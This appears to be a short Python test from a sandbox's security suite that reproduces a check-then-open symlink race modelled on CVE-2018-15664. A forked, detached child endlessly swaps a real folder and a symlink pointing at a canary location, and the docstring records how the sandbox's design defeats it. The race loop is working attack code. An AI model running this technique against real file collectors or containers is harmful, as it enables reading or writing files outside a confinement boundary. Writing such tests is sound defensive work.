"""Swap a folder for a link again and again, to win against a supervisor that checks first and opens then.

origin: time of check, time of use: CVE-2018-15664 (docker cp)
stopped by: nothing of the program can run any more when files are collected; openat2
control: none: needs a supervisor that races
ours: process 1 collects when nobody else can run any more
"""

import os
import time

from attempt import tried

os.mkdir("real")
open("real/canary", "w").write("mine")
os.symlink(os.path.dirname(os.environ["CANARY_PATH"]), "link")
if os.fork() == 0:
    os.setsid()
    while True:
        os.rename("real", "aside")
        os.rename("link", "real")
        os.rename("real", "link")
        os.rename("aside", "real")
time.sleep(0.3)
tried("a race")
